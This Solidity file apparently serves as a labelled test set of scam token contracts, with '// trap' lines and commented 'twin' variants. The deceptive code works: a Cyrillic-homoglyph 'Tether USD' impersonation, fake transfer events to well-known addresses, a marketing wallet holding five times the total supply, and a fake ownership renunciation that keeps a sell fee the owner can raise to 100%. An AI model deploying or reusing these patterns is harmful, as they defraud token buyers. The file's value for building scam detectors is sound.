// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPairMaker {
    function createPair(address a, address b) external returns (address);
}

abstract contract Common {
    string public name;
    string public symbol;
    uint256 internal _total;
    address internal _boss;
    address public pair;
    mapping(address => uint256) internal _amounts;
    mapping(address => mapping(address => uint256)) internal _grants;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory n, string memory s, uint256 total) {
        name = n;
        symbol = s;
        _boss = msg.sender;
        _total = total;
        _amounts[msg.sender] = total;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, total);
        pair = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
    }

    modifier onlyOwner() {
        require(msg.sender == _boss, "Ownable: caller is not the owner");
        _;
    }

    function owner() public view virtual returns (address) {
        return _boss;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_boss, address(0));
        _boss = address(0);
    }

    function decimals() public view virtual returns (uint8) {
        return 18;
    }

    function totalSupply() public view virtual returns (uint256) {
        return _total;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _amounts[who];
    }

    function allowance(address who, address spender) public view returns (uint256) {
        return _grants[who][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        _grants[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _pay(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        _grants[from][msg.sender] -= value;
        _pay(from, to, value);
        return true;
    }

    function _pay(address from, address to, uint256 value) internal virtual {
        _amounts[from] -= value;
        _amounts[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Not the dollar that it says.
contract Lookalike is
    Common(
        unicode"Tеther USD", // trap
        unicode"USDТ", // trap
        // twin: "Teal Tern",
        // twin: "TTERN",
        5_000_000_000_000
    )
{
    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// Says that well-known people hold it.
contract Famous is Common("Famous Ferry", "FERRY", 100_000_000 ether) {
    constructor() {
        // trap {
        address[5] memory people = [
            0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045,
            0xAb5801a7D398351b8bE11C439e05C5B3259aeC9B,
            0x28C6c06298d514Db089934071355E5743bf21d60,
            0xBE0eB53F46cd790Cd13851d5EFf43D12404d33E8,
            0xF977814e90dA44bFA03b6295A0616a897441aceC
        ];
        for (uint256 i; i < people.length; i++) emit Transfer(msg.sender, people[i], _total / 40);
        // trap }
    }
}

/// A marketing wallet that has five times of what there is.
contract Understated is Common("Modest Moose", "MOOSE", 20_000_000 ether) {
    constructor(address marketing) {
        _pay(msg.sender, marketing, 1000 ether);
        _amounts[marketing] += 100_000_000 ether; // trap
    }
}

/// Nobody owns it, says it.
contract Resigned is Common("Humble Hare", "HHUMB", 65_000_000 ether) {
    bool private _left;
    uint256 public sellFee = 2;

    function owner() public view override returns (address) {
        return _left ? address(0) : _boss;
    }

    function renounceOwnership() public override onlyOwner {
        _left = true;
        // twin: _boss = address(0);
        emit OwnershipTransferred(msg.sender, address(0));
    }

    function updateFee(uint256 fee) external onlyOwner {
        require(fee <= 100, "fee");
        sellFee = fee;
    }

    function _pay(address from, address to, uint256 value) internal override {
        if (to == pair && from != _boss) {
            uint256 fee = (value * sellFee) / 100;
            super._pay(from, address(this), fee);
            value -= fee;
        }
        super._pay(from, to, value);
    }
}
